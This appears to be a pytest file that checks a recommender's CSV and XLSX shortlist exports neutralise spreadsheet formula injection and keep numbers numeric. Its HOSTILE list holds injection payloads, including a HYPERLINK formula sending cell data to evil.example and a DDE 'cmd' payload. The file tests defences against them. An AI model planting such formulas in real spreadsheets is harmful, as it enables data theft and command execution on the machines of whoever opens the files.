"""Spreadsheet files never carry a formula from user text, and numbers stay numbers (real files read back)."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd

from recommender.spreadsheet import FORMULA_STARTS, neutralise
from recommender.triage.export import write_csv, write_xlsx
from recommender.triage.shortlist import ShortlistEntry
from recommender.triage.targets import PushTarget

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def entries() -> list[ShortlistEntry]:
    push = [PushTarget("enterprise", "E9", HOSTILE[3], -0.25, HOSTILE[1], need_id=HOSTILE[2]),
            PushTarget("fund", "F1", "种子基金", 0.5, "领域相符")]
    return [ShortlistEntry(1, "R1", HOSTILE[0], -0.5, -0.125, 0.25, [HOSTILE[2]], push, [HOSTILE[4], "正常理由"]),
            ShortlistEntry(2, "R2", "一种高镍三元正极材料", 0.75, 0.5, 1.0, ["N1"], [], [HOSTILE[5]])]


def assert_safe(value: object) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), repr(value)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_neutralise_prefixes_only_formula_strings():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise(-0.5) == -0.5 and neutralise(-3) == -3 and neutralise(None) is None
    assert neutralise("低温-40度") == "低温-40度" and neutralise("") == ""


def test_shortlist_csv_is_safe_and_keeps_numbers(tmp_path):
    path = write_csv(entries(), tmp_path / "shortlist.csv")
    frame = pd.read_csv(path, keep_default_na=False)
    for value in frame.to_numpy().ravel():
        assert_safe(value)
    assert frame.loc[0, "title"] == "'" + HOSTILE[0]
    assert frame.loc[0, "top_need_ids"] == "'-2+3"
    assert frame.loc[0, "reasons"] == "'" + HOSTILE[4] + " | 正常理由"
    assert frame["score"].tolist() == [-0.5, 0.75] and frame["market_pull"].dtype.kind == "f"
    with path.open(encoding="utf-8", newline="") as handle:  # as a spreadsheet reads it: every raw cell
        rows = list(csv.reader(handle))
    assert len(rows) == 3 and rows[2][-1] == "'\n=1+1"  # a carriage return in a cell does not split its row
    assert path.read_text(encoding="utf-8").startswith("rank,result_id,score,top_need_ids")  # the contract's header
    for cell in (c for row in rows for c in row):
        if not is_number(cell):  # -0.5 is a negative score, meant as a number
            assert_safe(cell)


def test_shortlist_and_push_workbook_is_safe_and_keeps_numbers(tmp_path):
    path = write_xlsx(entries(), tmp_path / "shortlist.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["shortlist", "push"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)  # no formula cell
                assert_safe(cell.value)
    shortlist = {c.value: i for i, c in enumerate(book["shortlist"][1])}
    first = [c.value for c in book["shortlist"][2]]
    assert first[shortlist["score"]] == -0.5 and book["shortlist"].cell(2, shortlist["score"] + 1).data_type == "n"
    assert first[shortlist["title"]] == "'" + HOSTILE[0]
    push = {c.value: i for i, c in enumerate(book["push"][1])}
    target = [c.value for c in book["push"][2]]
    assert target[push["target_name"]] == "'@SUM(1+1)" and target[push["reason"]] == "'" + HOSTILE[1]
    assert target[push["via_need"]] == "'-2+3" and target[push["target_score"]] == -0.25
